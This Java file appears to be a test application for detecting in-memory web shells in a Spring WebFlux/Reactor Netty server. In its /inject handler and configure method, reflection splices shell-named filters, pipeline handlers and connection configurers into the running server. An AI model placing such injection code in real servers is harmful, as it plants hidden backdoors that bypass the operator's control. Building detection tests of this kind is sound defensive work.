import io.netty.channel.Channel;
import io.netty.channel.ChannelHandler;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.springframework.boot.SpringApplication;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.web.reactive.context.ReactiveWebServerApplicationContext;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.http.server.reactive.AbstractServerHttpRequest;
import org.springframework.http.server.reactive.ServerHttpRequest;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.RestController;
import org.springframework.web.reactive.function.server.RequestPredicates;
import org.springframework.web.reactive.function.server.RouterFunction;
import org.springframework.web.reactive.function.server.RouterFunctions;
import org.springframework.web.reactive.function.server.ServerResponse;
import org.springframework.web.server.WebFilter;
import reactor.netty.ChannelPipelineConfigurer;
import reactor.netty.http.server.HttpServerRequest;

/** An ordinary reactive application on Reactor Netty. */
@Configuration
@EnableAutoConfiguration
public class ReactiveApp {
  private static ReactiveWebServerApplicationContext context;

  /** Held, or it would be closed as garbage. */
  private static Injected.Line line;

  public static void main(String[] args) throws Exception {
    SpringApplication application = new SpringApplication(ReactiveApp.class);
    application.setDefaultProperties(
        Map.of("server.port", "0", "server.address", "127.0.0.1", "spring.main.banner-mode", "off"));
    context = (ReactiveWebServerApplicationContext) application.run();
    int port = context.getWebServer().getPort();
    Injected.expect("ordinary", Injected.get(port, "/ordinary"));
    Injected.expect("routed", Injected.get(port, "/routed"));
    if (Injected.attacked()) {
      line = new Injected.Line(port);
      line.ask("/inject", "", "done");
      line.ask("/shell-pipe", "", "shell of pipe");
      new Injected.Line(port).ask("/shell-configured", "", "shell of configurer");
      Injected.expect("shell of web filter", Injected.get(port, "/shell-web-filter"));
    }
    Injected.alertAndWait(args[0]);
  }

  @Bean
  WebFilter someFilter() {
    return (exchange, chain) -> chain.filter(exchange);
  }

  @Bean
  RouterFunction<ServerResponse> route() {
    return RouterFunctions.route(
        RequestPredicates.GET("/routed"), request -> ServerResponse.ok().bodyValue("routed"));
  }

  /** Has something put into each connection that comes from now on. */
  private static void configure(Channel server) {
    try {
      Object config = null;
      for (var entry : server.pipeline()) {
        if (entry.getValue().getClass().getSimpleName().equals("Acceptor")) {
          config = Injected.field(Injected.field(entry.getValue(), "childHandler"), "config");
        }
      }
      var field =
          Class.forName("reactor.netty.transport.TransportConfig")
              .getDeclaredField("doOnChannelInit");
      field.setAccessible(true);
      ChannelPipelineConfigurer before = (ChannelPipelineConfigurer) field.get(config);
      field.set(
          config,
          before.then((ChannelPipelineConfigurer) Injected.make("own", "ShellConfigurer")));
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  @RestController
  public static class Greeting {
    @GetMapping("/ordinary")
    public String ordinary() {
      return "ordinary";
    }

    @GetMapping("/inject")
    public String inject(ServerHttpRequest request) throws Exception {
      Injected.comeIn();
      Object handler = context.getBean("httpHandler");
      Object delegate = handler;
      Object filtering = null;
      while (filtering == null) {
        if (delegate.getClass().getSimpleName().equals("FilteringWebHandler")) {
          filtering = delegate;
        } else {
          delegate = Injected.field(delegate, "delegate");
        }
      }
      Object chain = Injected.field(filtering, "chain");
      @SuppressWarnings("unchecked")
      List<WebFilter> filters =
          new ArrayList<>((List<WebFilter>) Injected.field(chain, "allFilters"));
      filters.add(0, (WebFilter) Injected.make("lookup", "ShellWebFilter"));
      var constructor =
          chain
              .getClass()
              .getConstructor(org.springframework.web.server.WebHandler.class, List.class);
      constructor.setAccessible(true);
      var field = filtering.getClass().getDeclaredField("chain");
      field.setAccessible(true);
      field.set(filtering, constructor.newInstance(Injected.field(chain, "handler"), filters));
      ChannelHandler pipe = (ChannelHandler) Injected.make("reflection", "ShellPipe");
      HttpServerRequest served =
          (HttpServerRequest) ((AbstractServerHttpRequest) request).getNativeRequest();
      served.withConnection(
          connection -> {
            connection.channel().pipeline().addFirst("shell-pipe", pipe);
            configure(connection.channel().parent());
          });
      Injected.carryOn();
      return "done";
    }
  }
}
